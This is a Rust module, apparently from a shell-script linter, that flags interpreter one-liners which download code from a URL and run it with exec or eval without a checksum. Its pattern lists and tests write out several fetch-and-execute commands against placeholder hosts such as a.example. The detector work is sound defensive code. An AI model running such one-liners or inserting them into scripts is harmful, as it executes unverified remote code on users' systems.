//! Programs that are written as a word of a command (`python -c …`, `perl -e …`), and run what they load from elsewhere.

use super::download::LOCAL;
use crate::document::Node;

/// An interpreter that takes a program as a word.
struct Language {
    program: &'static str,
    /// The options that it follows; short ones may stand behind others (`-Sc`).
    options: &'static [&'static str],
    /// What loads a text from an address.
    loads: &'static [&'static str],
    /// What runs a text.
    runs: &'static [&'static str],
}

#[rustfmt::skip] // One line each, so that additions do not meet.
const LANGUAGES: &[Language] = &[
    Language { program: "node", options: &["-e", "-p", "--eval", "--print"], loads: &["fetch(", "https.get(", "http.get(", "axios.get(", "got("], runs: &["eval", "Function", "runInThisContext", "runInNewContext"] },
    Language { program: "perl", options: &["-e", "-E"], loads: &["LWP::Simple", "LWP::UserAgent", "HTTP::Tiny"], runs: &["eval"] },
    Language { program: "php", options: &["-r"], loads: &["file_get_contents(\"http", "file_get_contents('http", "curl_exec("], runs: &["eval("] },
    Language { program: "python", options: &["-c"], loads: &["urlopen(", "requests.get(", "httpx.get("], runs: &["exec(", "eval("] },
    Language { program: "ruby", options: &["-e"], loads: &["URI.open(", "URI.parse(", "Net::HTTP.get", "open(\"http", "open('http", "URI(\"http", "URI('http"], runs: &["eval", "instance_eval", "class_eval"] },
];

/// Words of a program that compares what it loaded with something known.
const CHECKS: &[&str] = &["hashlib", "sha256", "sha384", "sha512", "digest", "hash_file", "createHash", "hash("];

/// Whether a command hands an interpreter a program that runs what it loads, and checks nothing.
pub(super) fn runs_what_it_loads(command: &Node) -> bool {
    let words = words(command);
    let Some((language, written)) = program_of(command, &words) else { return runs_an_address(command, &words) };
    // What is loaded may be a module that an option names.
    let loads = |text: &str| words.iter().any(|word| word.contains(text));
    language.loads.iter().any(|text| loads(text))
        && language.runs.iter().any(|text| says(written, text))
        && !CHECKS.iter().chain(LOCAL).any(|text| written.contains(text))
}

fn words(command: &Node) -> Vec<&str> {
    command.get("argv").map_or(&[][..], Node::items).iter().filter_map(Node::as_str).collect()
}

/// The language of the interpreter that a command starts, and the program that it is handed as a word.
fn program_of<'w>(command: &Node, words: &[&'w str]) -> Option<(&'static Language, &'w str)> {
    let program = command.get("program").and_then(Node::as_str).unwrap_or("");
    let bare = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let language = LANGUAGES.iter().find(|language| language.program == bare)?;
    let at = words.iter().position(|word| language.takes(word))?;
    words.get(at + 1).map(|written| (language, *written))
}

/// Whether a program is told to run what stands at an address, as Deno is.
fn runs_an_address(command: &Node, words: &[&str]) -> bool {
    let is_deno = command.get("program").and_then(Node::as_str) == Some("deno");
    let mut after = words.iter().skip_while(|word| !["run", "eval", "install"].contains(word)).skip(1);
    let first = after.find(|word| !word.starts_with('-'));
    is_deno && first.is_some_and(|word| word.starts_with("http") && !LOCAL.iter().any(|local| word.contains(local)))
}

/// Whether a program in a word of a command compares something with what is known.
pub(super) fn checks(command: &Node) -> bool {
    program_of(command, &words(command)).is_some_and(|(_, written)| CHECKS.iter().any(|check| written.contains(check)))
}

/// What writes what it loads from an address to a file, which is the next word: `urlretrieve(ADDRESS, FILE)`.
const SAVES: &[(&str, &[&str])] = &[("python", &["urlretrieve("]), ("php", &["copy("])];

/// The file that a program in a word of a command saves what it loads to.
pub(super) fn file_of_what_it_loads(command: &Node) -> Option<String> {
    let words = words(command);
    let (language, written) = program_of(command, &words)?;
    let (_, saves) = SAVES.iter().find(|(program, _)| *program == language.program)?;
    let after = saves.iter().find_map(|own| written.split_once(own).map(|(_, after)| after))?;
    let mut quoted = after.split(')').next()?.split(['"', '\'']).skip(1).step_by(2);
    let address = quoted.next().filter(|address| address.starts_with("http"))?;
    let is_local = LOCAL.iter().any(|local| address.contains(local));
    let is_checked = CHECKS.iter().any(|check| written.contains(check));
    quoted.next().filter(|_| !is_local && !is_checked).map(str::to_owned)
}

impl Language {
    fn takes(&self, word: &str) -> bool {
        let is_last = |option: &str| {
            let letter = option.strip_prefix('-').filter(|letter| letter.len() == 1);
            let letters = word.strip_prefix('-').filter(|letters| letters.bytes().all(|c| c.is_ascii_alphabetic()));
            letter.zip(letters).is_some_and(|(letter, letters)| letters.ends_with(letter))
        };
        self.options.iter().any(|option| word == *option || is_last(option))
    }
}

/// Whether a program has a word that is no part of a longer name, and no method of something.
fn says(written: &str, word: &str) -> bool {
    written.match_indices(word).any(|(at, _)| {
        let before = written.get(..at).and_then(|text| text.chars().next_back());
        let after = written.get(at + word.len()..).and_then(|text| text.chars().next());
        let is_letter = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
        !is_letter(before) && before != Some('.') && (word.ends_with('(') || !is_letter(after))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::Text;
    use crate::source::{FileId, Span};
    use crate::syntax::shell::{self, Shell};

    #[test]
    fn what_is_loaded_and_run_is_told_from_what_is_only_loaded() {
        for (script, want) in [
            ("python3 -c \"import urllib.request as u; exec(u.urlopen('https://a.example/x').read())\"", true),
            ("python -Sc 'exec(requests.get(URL).text)'", true),
            ("sudo python3.12 -c 'import requests; t = requests.get(u).text; eval(t)'", true),
            ("perl -MLWP::Simple -e 'eval get(\"https://a.example/x\")'", true),
            ("ruby -e 'require \"open-uri\"; eval URI.open(\"https://a.example/x\").read'", true),
            ("node -e 'fetch(u).then(r => r.text()).then(eval)'", true),
            ("node --eval \"fetch(u).then(async r => new Function(await r.text())())\"", true),
            ("php -r 'eval(file_get_contents(\"https://a.example/x\"));'", true),
            ("python3 -c 'print(urlopen(u).read())'", false),
            ("python3 -c 'import ast; ast.literal_eval(urlopen(u).read().decode())'", false),
            ("python3 -c 'model.eval(); requests.get(u)'", false),
            ("python3 -c 'exec(open(\"a.py\").read())'", false),
            ("python3 -c 'd = urlopen(u).read(); assert hashlib.sha256(d).hexdigest() == h; exec(d)'", false),
            ("python3 -c 'exec(urlopen(\"http://localhost:80/x\").read())'", false),
            ("python3 x.py 'exec(urlopen(u))'", false),
            ("echo 'exec(urlopen(u))'", false),
        ] {
            let span = Span::new(FileId(0), 0, script.len());
            let commands = shell::commands(&Text::verbatim(script, 0), span, Shell::Posix);
            assert_eq!(commands.items().iter().any(runs_what_it_loads), want, "{script}");
        }
    }
}
